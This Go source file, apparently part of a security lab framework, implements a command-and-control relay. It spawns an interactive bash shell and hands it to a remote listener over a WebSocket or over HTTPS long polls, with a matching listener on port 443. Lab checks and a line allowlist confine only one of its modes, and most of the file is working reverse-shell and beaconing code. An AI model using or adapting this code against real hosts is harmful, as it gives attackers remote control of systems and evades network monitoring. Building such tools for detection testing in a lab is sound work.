package c2

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"golang.org/x/term"
)

// The relay hands the shell of its host to a listener: over a WebSocket, by
// keys on a terminal or by lines, or by lines over HTTP with long polls. By
// lines it runs what is in linesFile only.

// linesFile has the lines that a relay by lines may run.
const linesFile = "lines.txt"

// RelayPrograms are for lab.Scenario.Programs of scenarios with a relay.
func RelayPrograms() map[string]func(context.Context, []string) error {
	return map[string]func(context.Context, []string) error{"relay": relay, "listener": listener}
}

// farShell is a shell on the relay's host.
type farShell struct {
	io.Reader
	io.Writer
	cmd *exec.Cmd
}

// startShell starts a shell, on a terminal or with pipes.
func startShell(ctx context.Context, terminal bool) (*farShell, error) {
	s := &farShell{cmd: exec.CommandContext(ctx, "/bin/bash", "-i")}
	if terminal {
		master, slave, err := openTerminal()
		if err != nil {
			return nil, err
		}
		defer slave.Close()
		s.Reader, s.Writer = master, master
		s.cmd.Stdin, s.cmd.Stdout, s.cmd.Stderr = slave, slave, slave
		s.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
		return s, s.cmd.Start()
	}
	r, w, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	defer w.Close()
	s.Reader, s.cmd.Stdout, s.cmd.Stderr = r, w, w
	if s.Writer, err = s.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	return s, s.cmd.Start()
}

func openTerminal() (master, slave *os.File, err error) {
	if master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		return nil, nil, err
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0)
	}
	if err == nil {
		slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	}
	if err != nil {
		master.Close()
	}
	return master, slave, err
}

// allowed returns an error unless each line may be run.
func allowed(input []byte) error {
	all, err := os.ReadFile(linesFile)
	if err != nil {
		return err
	}
	lines := strings.Split(string(all), "\n")
	for line := range strings.Lines(string(input)) {
		if line = strings.TrimRight(line, "\r\n"); line != "" && !slices.Contains(lines, line) {
			return fmt.Errorf("%q may not be run", line)
		}
	}
	return nil
}

// relay is a program of the lab: relay "websocket" or "http", "keys" or "lines".
func relay(ctx context.Context, args []string) error {
	if err := inLab(); err != nil {
		return err
	}
	p, err := readPlan(planFile)
	if err == nil {
		err = checkAddr(p.Server.Addr())
	}
	if err != nil || len(args) != 2 {
		return errors.Join(err, fmt.Errorf("arguments %q", args))
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	shell, err := startShell(ctx, args[1] == "keys")
	if err != nil {
		return err
	}
	if args[0] == "http" {
		err = relayHTTP(ctx, p, shell)
	} else {
		err = relayWebSocket(ctx, p, shell, args[1] == "lines")
	}
	cancel()
	shell.cmd.Wait()
	return err
}

func relayWebSocket(ctx context.Context, p Plan, shell *farShell, lines bool) error {
	ws, err := dialWebSocket(ctx, p, rand.New(rand.NewPCG(p.Seed, 3)))
	if err != nil {
		return err
	}
	go func() {
		for {
			input, err := ws.receive()
			if err == nil && lines {
				err = allowed(input)
			}
			if err == nil {
				_, err = shell.Write(input)
			}
			if err != nil {
				ws.Close()
				return
			}
		}
	}()
	buf := make([]byte, 32<<10)
	for {
		n, err := shell.Read(buf)
		if err == nil {
			err = ws.send(opBinary, buf[:n])
		}
		if err != nil { // the shell has ended
			ws.bye()
			return nil
		}
	}
}

// batch is how long a relay over HTTP waits for more output.
const batch = 80 * time.Millisecond

func relayHTTP(ctx context.Context, p Plan, shell *farShell) error {
	c := &httpsChannel{plan: p, client: httpsClient(p)}
	defer c.close()
	var mu sync.Mutex
	out := json.NewEncoder(os.Stdout)
	ask := func(method, path string, body []byte) ([]byte, error) {
		data, events, err := c.do(ctx, method, path, http.Header{}, body)
		mu.Lock()
		defer mu.Unlock()
		for _, e := range events {
			if e.State == "handshake" {
				err = errors.Join(err, out.Encode(e))
			}
		}
		return data, err
	}
	ctxPoll, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		for ctxPoll.Err() == nil {
			input, err := ask("GET", "/poll", nil)
			if err == nil && len(input) > 0 {
				err = allowed(input)
			}
			if err == nil {
				_, err = shell.Write(input)
			}
			if err != nil {
				return
			}
		}
	}()
	output := make(chan []byte)
	go func() {
		defer close(output)
		for {
			buf := make([]byte, 32<<10)
			n, err := shell.Read(buf)
			if err != nil {
				return
			}
			output <- buf[:n]
		}
	}()
	for data := range output {
		for more := true; more; {
			select {
			case next, ok := <-output:
				data, more = append(data, next...), ok
			case <-time.After(batch):
				more = false
			}
		}
		if _, err := ask("POST", "/output", data); err != nil {
			return err
		}
	}
	_, err := ask("POST", "/bye", nil)
	return err
}

// listener is a program of the lab: somebody's end of a relay, with the same
// arguments.
func listener(ctx context.Context, args []string) error {
	if err := inLab(); err != nil {
		return err
	}
	p, err := readPlan(planFile)
	if err != nil || len(args) != 2 {
		return errors.Join(err, fmt.Errorf("arguments %q", args))
	}
	input := make(chan []byte)
	over := make(chan struct{})
	if args[1] == "keys" {
		old, err := term.MakeRaw(0)
		if err != nil {
			return err
		}
		defer term.Restore(0, old)
	}
	go func() {
		defer close(input)
		in := bufio.NewReader(os.Stdin)
		for {
			buf := make([]byte, 4096)
			n, err := in.Read(buf)
			if err != nil {
				input <- []byte("exit\n") // the end of input ends the shell
				return
			}
			input <- buf[:n]
		}
	}()
	handler := listenWebSocket(input, over)
	if args[0] == "http" {
		handler = listenHTTP(p, input, over)
	}
	server := &http.Server{Addr: ":443", Handler: handler}
	if args[0] == "websocket" { // which HTTP/2 does not carry
		server.TLSNextProto = map[string]func(*http.Server, *tls.Conn, http.Handler){}
	}
	failed := make(chan error, 1)
	go func() {
		if p.Front {
			server.Addr = fmt.Sprintf("127.0.0.1:%d", frontPort)
			failed <- server.ListenAndServe()
			return
		}
		failed <- server.ListenAndServeTLS("cert.pem", "cert.key")
	}()
	select {
	case err := <-failed:
		return err
	case <-ctx.Done():
	case <-over:
	}
	end, cancel := context.WithTimeout(context.WithoutCancel(ctx), time.Second)
	defer cancel()
	server.Shutdown(end)
	return nil
}

func listenWebSocket(input <-chan []byte, over chan<- struct{}) http.HandlerFunc {
	return func(w http.ResponseWriter, q *http.Request) {
		ws, err := acceptWebSocket(w, q)
		if err != nil {
			return
		}
		fmt.Print("connected\r\n")
		go func() {
			for data := range input {
				if ws.send(opBinary, data) != nil {
					return
				}
			}
		}()
		for {
			data, err := ws.receive()
			if err != nil {
				break
			}
			os.Stdout.Write(data)
		}
		ws.bye()
		close(over)
	}
}

// listenHTTP answers a poll when there is input, or when it has waited.
func listenHTTP(p Plan, input <-chan []byte, over chan<- struct{}) http.HandlerFunc {
	var connected sync.Once
	return func(w http.ResponseWriter, q *http.Request) {
		switch q.URL.Path {
		case "/poll":
			connected.Do(func() { fmt.Print("connected\r\n") })
			select {
			case data := <-input:
				w.Write(data)
			case <-time.After(p.Poll):
			case <-q.Context().Done():
			}
		case "/output":
			io.Copy(os.Stdout, q.Body)
		case "/bye":
			close(over)
		}
	}
}

// httpsClient talks to the plan's server only.
func httpsClient(p Plan) *http.Client {
	t := &http.Transport{
		DisableKeepAlives: !p.KeepAlive, ForceAttemptHTTP2: p.HTTP2,
		TLSClientConfig: &tls.Config{ServerName: p.Name, InsecureSkipVerify: p.Insecure},
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "tcp4", p.Server.String())
		},
	}
	if !p.HTTP2 {
		t.TLSNextProto = map[string]func(string, *tls.Conn) http.RoundTripper{}
	}
	return &http.Client{Transport: t}
}
